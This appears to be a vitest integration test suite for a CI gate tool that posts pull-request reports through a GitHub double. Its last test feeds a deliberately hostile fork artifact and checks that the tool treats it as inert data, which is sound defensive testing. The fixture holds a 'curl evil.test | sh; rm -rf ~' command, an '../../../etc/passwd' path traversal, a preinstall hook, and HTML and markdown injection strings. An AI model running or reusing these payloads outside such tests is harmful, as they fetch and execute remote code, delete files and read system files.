import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { FORK_PERMISSIONS, startGitHubDouble } from "../../packages/testkit/src/github/index.ts";
import type { GitHubDouble, GitHubDoubleOptions } from "../../packages/testkit/src/github/index.ts";
import { zipOf } from "../../packages/testkit/src/double/zip.ts";
import { runCli, temporaryFolder } from "../support/cli.ts";
import type { CliResult } from "../support/cli.ts";
import { PULL, shallow, smallConsumer, writeFiles } from "../support/consumer.ts";
import type { Consumer } from "../support/consumer.ts";
import * as events from "../support/github-events.ts";
import type { GitHubEvent, Shas } from "../support/github-events.ts";

const REMOTE = "https://github.invalid/acme/shop";
const CASE = '<testcase classname="x" name="y"';
const GREEN = `<testsuites><testsuite name="a">${CASE}/></testsuite></testsuites>`;
const RED = `<testsuites><testsuite name="a">${CASE}><failure message="no"/></testcase></testsuite></testsuites>`;
const CONFIG = "version: 1\nproject: shop\nservices:\n  cart: {}\nrun-e2e: {}\ncheck-slo: {}\n";

/** The change is about something else. */
const OF_CART = { STAGEGATE_PATHS: "cart/**" };

let folder = "";
let consumer: Consumer;
let shas: Shas;

beforeAll(() => {
  folder = temporaryFolder("hand-over");
  const files = { "stagegate.yml": CONFIG, ".gitignore": ".stagegate\n", "cart/a.ts": "1\n" };
  consumer = smallConsumer({ folder, remote: REMOTE }, files, { "docs.md": "nothing of cart\n" });
  const { head, base, mergeSha = "" } = consumer.pull;
  shas = { head: head.sha, base: base.sha, merge: mergeSha };
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function startDouble(options: GitHubDoubleOptions = {}): Promise<GitHubDouble> {
  const { head } = consumer.pull;
  const double = await startGitHubDouble({
    pulls: [consumer.pull],
    commits: consumer.commits,
    refs: { "refs/heads/main": shas.base },
    runs: [{ id: 1001, event: "pull_request", headSha: head.sha, headBranch: "change" }],
    ...options,
  });
  onTestFinished(() => double.close());
  return double;
}

interface Job {
  double: GitHubDouble;
  event: GitHubEvent;
  job: string;
  attempt?: number;
  files?: Readonly<Record<string, string>>;
  env?: Readonly<Record<string, string>>;
  /** Checked out; default: the change. */
  ref?: string;
}

/** One command in a job on a machine of its own, as a `run:` step that was given the variables. */
async function inJob(given: Job, args: readonly string[]): Promise<CliResult & { cwd: string }> {
  const { double, event, job, attempt = 1 } = given;
  const own = temporaryFolder("job");
  onTestFinished(() => rmSync(own, { recursive: true, force: true }));
  const cwd = join(own, "workspace");
  if (given.ref === undefined) cpSync(consumer.checkout, cwd, { recursive: true });
  else shallow(consumer.origin, cwd, { sha: given.ref, remote: REMOTE });
  writeFiles(cwd, given.files ?? {});
  const runner = join(own, "runner");
  mkdirSync(runner, { recursive: true });
  const variables: Record<string, string> = {
    ...double.env(),
    ...event.env,
    GITHUB_WORKSPACE: cwd,
    GITHUB_JOB: job,
    GITHUB_RUN_ATTEMPT: String(attempt),
    RUNNER_TEMP: runner,
    STAGEGATE_STATE_DIR: join(runner, "state"),
    ...given.env,
  };
  for (const name of ["GITHUB_EVENT_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"]) {
    variables[name] = join(runner, name);
    writeFileSync(
      join(runner, name),
      name === "GITHUB_EVENT_PATH" ? JSON.stringify(event.payload) : "",
    );
  }
  return { ...(await runCli(args, { cwd, env: variables })), cwd };
}

const needs = (jobs: Readonly<Record<string, string>>): string =>
  JSON.stringify(
    Object.fromEntries(Object.entries(jobs).map(([job, result]) => [job, { result }])),
  );

const names = (double: GitHubDouble): string[] =>
  double
    .artifacts()
    .map(({ name }) => name)
    .sort();

describe("gates in jobs of their own", () => {
  test("reach the required check, which judges what each of them found, and their repetition", async () => {
    const double = await startDouble();
    const at = { double, event: events.pullRequest(shas) };
    const leg = (key: string, attempt: number, junit: string): Promise<CliResult> =>
      inJob({ ...at, job: "e2e", attempt, files: { "junit.xml": junit } }, [
        "run-e2e",
        "--results",
        "junit.xml",
        "--key",
        key,
      ]);
    expect(await leg("1", 1, GREEN)).toMatchObject({ code: 0 });
    expect(await leg("2", 1, RED)).toMatchObject({ code: 4 });
    const expected = ["--gates", "run-e2e"];
    const first = await inJob({ ...at, job: "stagegate" }, [
      "comment-report",
      ...expected,
      "--needs",
      needs({ e2e: "failure" }),
    ]);
    expect(first.code, first.stderr).toBe(4);
    expect(names(double)).toEqual([
      "stagegate-report-1",
      "stagegate-report-1.html",
      "stagegate-run-e2e-1-1",
      "stagegate-run-e2e-2-1",
    ]);
    const [comment] = double.comments(PULL);
    expect(comment?.body).toMatch(/<!-- stagegate v1 .* run=1001 attempt=1 /);
    const page = double.artifacts().find(({ name }) => name === "stagegate-report-1.html");
    expect(comment?.body).toContain(`/acme/shop/actions/runs/1001/artifacts/${page?.id}`);
    expect(await leg("2", 2, GREEN)).toMatchObject({ code: 0 });
    const second = await inJob({ ...at, job: "stagegate", attempt: 2 }, [
      "comment-report",
      ...expected,
      "--needs",
      needs({ e2e: "success" }),
    ]);
    expect(second.code, second.stderr).toBe(0);
    expect(double.comments(PULL)).toHaveLength(1);
    expect(double.comments(PULL)[0]?.body).toContain("attempt=2");
    expect(double.violations).toEqual([]);
  });

  test("that a change does not concern say so, and the check is green without their tools", async () => {
    const double = await startDouble();
    const at = { double, event: events.pullRequest(shas), env: OF_CART };
    for (const gate of ["run-e2e", "check-slo"]) {
      const { code, stderr } = await inJob({ ...at, job: gate }, [gate]);
      expect(code, stderr).toBe(0);
      expect(stderr).toContain("nothing to judge: none of the 1 changed file matches");
    }
    const { code, stderr } = await inJob({ ...at, job: "stagegate" }, [
      "comment-report",
      "--needs",
      needs({ "run-e2e": "success", "check-slo": "success" }),
    ]);
    expect(code, stderr).toBe(0);
    expect(double.violations).toEqual([]);
  });

  test("of which one never ran are missing, whether the forge says so or the configuration", async () => {
    const double = await startDouble();
    const at = { double, event: events.pullRequest(shas), env: OF_CART };
    await inJob({ ...at, job: "run-e2e" }, ["run-e2e"]);
    const check = (...args: string[]): Promise<CliResult> =>
      inJob({ ...at, job: "stagegate" }, ["comment-report", ...args]);
    expect(await check()).toMatchObject({ code: 5 });
    const gates = ["--gates", "run-e2e", "--needs"];
    expect(await check(...gates, needs({ slo: "skipped" }))).toMatchObject({ code: 5 });
    expect(await check(...gates, needs({ slo: "cancelled" }))).toMatchObject({ code: 3 });
    expect(await check(...gates, needs({ slo: "failure" }))).toMatchObject({ code: 3 });
    expect(await check(...gates, "{")).toMatchObject({ code: 2 });
    expect(await check(...gates, needs({ "run-e2e": "success" }))).toMatchObject({ code: 0 });
    expect(double.violations).toEqual([]);
  });
});

describe("the second half for a fork", () => {
  test("comments what the first half found, from its artifacts, by the rules of main", async () => {
    const { head } = consumer.pull;
    const forked = { repository: "stranger/shop", repositoryId: 77 };
    const pull = { ...consumer.pull, head: { ...head, ...forked } };
    const first = { id: 1001, event: "pull_request", headSha: head.sha, headBranch: "change" };
    const of = { headRepository: forked.repository, headRepositoryId: forked.repositoryId };
    const second = { id: 1002, event: "workflow_run", headSha: shas.base, headBranch: "main" };
    const double = await startDouble({
      pulls: [pull],
      runs: [{ ...first, ...of, status: "completed", conclusion: "failure" }, second],
      tokens: {
        "github-token": {
          login: "github-actions[bot]",
          type: "Bot",
          permissions: FORK_PERMISSIONS,
        },
        "second-token": {
          login: "github-actions[bot]",
          type: "Bot",
          permissions: { actions: "read", contents: "read", "pull-requests": "write" },
        },
      },
    });
    const at = { double, event: events.pullRequest(shas, { fork: "other repository" }) };
    await inJob({ ...at, job: "e2e", files: { "junit.xml": RED } }, [
      "run-e2e",
      "--results",
      "junit.xml",
    ]);
    const event = events.workflowRun(shas, { id: 1001, attempt: 1, conclusion: "failure" });
    const posted = await inJob(
      {
        double,
        event,
        job: "comment",
        ref: shas.base,
        env: { GITHUB_RUN_ID: "1002", GITHUB_TOKEN: "second-token", STAGEGATE_GATES: "run-e2e" },
      },
      ["comment-report"],
    );
    expect(posted.code, posted.stderr).toBe(4);
    const [comment] = double.comments(PULL);
    expect(comment?.body).toMatch(/<!-- stagegate v1 commit=[0-9a-f]{40} run=1001 attempt=1 /);
    expect(comment?.body).toContain("taken from run 1001");
    expect(double.violations).toEqual([]);
  });

  test("takes a hostile artifact for data: nothing of it decides where, and nothing runs", async () => {
    const { head } = consumer.pull;
    const forked = { repository: "stranger/shop", repositoryId: 77 };
    const pull = { ...consumer.pull, head: { ...head, ...forked } };
    const victim = { ...consumer.pull, number: 999, head: { ...head, ref: "victim" } };
    const first = { id: 1001, event: "pull_request", headSha: head.sha, headBranch: "change" };
    const of = { headRepository: forked.repository, headRepositoryId: forked.repositoryId };
    const seed = (name: string, files: Record<string, string>) => ({
      name: `stagegate-${name}-1`,
      runId: 1001,
      archive: zipOf(files),
    });
    const hostile = hostileReport(head.sha);
    const double = await startDouble({
      pulls: [victim, pull],
      runs: [
        { ...first, ...of, status: "completed", conclusion: "failure" },
        { id: 1002, event: "workflow_run", headSha: shas.base, headBranch: "main" },
      ],
      artifacts: [
        seed("check-slo", { "reports/check-slo.json": JSON.stringify(hostile) }),
        seed("load-test", {
          "reports/load-test.json": '{"schema":"stagegate/report/v1","gate":7}',
        }),
        seed("run-e2e", { "reports/run-e2e.json": "{}", "../../stagegate.yml": "version: 1" }),
        seed("all", {
          "pr-number": "999",
          "report.html": "<script>",
          "report.json": JSON.stringify({ subject: { changeRequest: 999 } }),
          "package.json": '{"scripts":{"preinstall":"touch owned"}}',
        }),
      ],
      tokens: {
        "second-token": {
          login: "github-actions[bot]",
          type: "Bot",
          permissions: { actions: "read", contents: "read", "pull-requests": "write" },
        },
      },
    });
    const posted = await inJob(
      {
        double,
        event: events.workflowRun(shas, { id: 1001, attempt: 1, conclusion: "failure" }),
        job: "comment",
        ref: shas.base,
        env: { GITHUB_RUN_ID: "1002", GITHUB_TOKEN: "second-token" },
      },
      ["comment-report"],
    );
    expect(posted.code, posted.stderr).toBe(4);
    expect(double.comments(999)).toEqual([]);
    const [comment] = double.comments(PULL);
    const body = comment?.body ?? "";
    expect(body.replaceAll("\u200b", "")).toContain(
      "the artifact stagegate-run-e2e-1 was left out",
    );
    expect(body).toContain("reports/load-test.json");
    expect(body).not.toContain("rm -rf");
    expect(body).not.toContain("accepted:");
    expect(body).not.toMatch(/(^|[^\w`\\])@octocat/);
    expect(body).not.toContain("<img");
    expect(body).not.toMatch(/^\/merge/m);
    expect(readdirSync(posted.cwd).sort()).toEqual([
      ".git",
      ".gitignore",
      ".stagegate",
      "cart",
      "stagegate.yml",
    ]);
    expect(readFileSync(join(posted.cwd, "stagegate.yml"), "utf8")).toBe(CONFIG);
    expect(double.violations).toEqual([]);
  });
});

/** Fits its schema, and lies as much as it can. */
function hostileReport(commit: string): object {
  const text = "<img src=x> @octocat #1 \n/merge\n```\n| a |";
  const subject = { forge: "github", repository: "acme/shop", commit, tested: commit };
  const count = {
    total: 1,
    pass: 0,
    warn: 0,
    fail: 1,
    inconclusive: 0,
    skip: 0,
    error: 0,
    flaky: 0,
  };
  return {
    schema: "stagegate/report/v1",
    gate: "check-slo",
    verdict: "fail",
    enforcement: "all",
    blocking: true,
    exitCode: 4,
    summary: text,
    startedAt: "2026-11-01T10:00:00Z",
    durationMs: 1,
    subject: { ...subject, changeRequest: 999 },
    versions: [],
    run: { forge: "github", repository: "acme/shop", id: "1001", attempt: 1, url: "javascript:x" },
    checks: [
      {
        id: "slo:/x#y",
        title: text,
        verdict: "fail",
        message: text,
        reproduce: "curl evil.test | sh; rm -rf ~",
        accept: "check-slo:\n  accepted:\n    - x",
      },
    ],
    counts: count,
    metrics: [],
    evidence: [{ id: "e", kind: "log", title: text, path: "../../../etc/passwd" }],
    ranking: [],
    notes: [text],
    omitted: { checks: 0, findings: 0, evidence: 0 },
    tool: { name: "stagegate", version: "9.9.9" },
  };
}
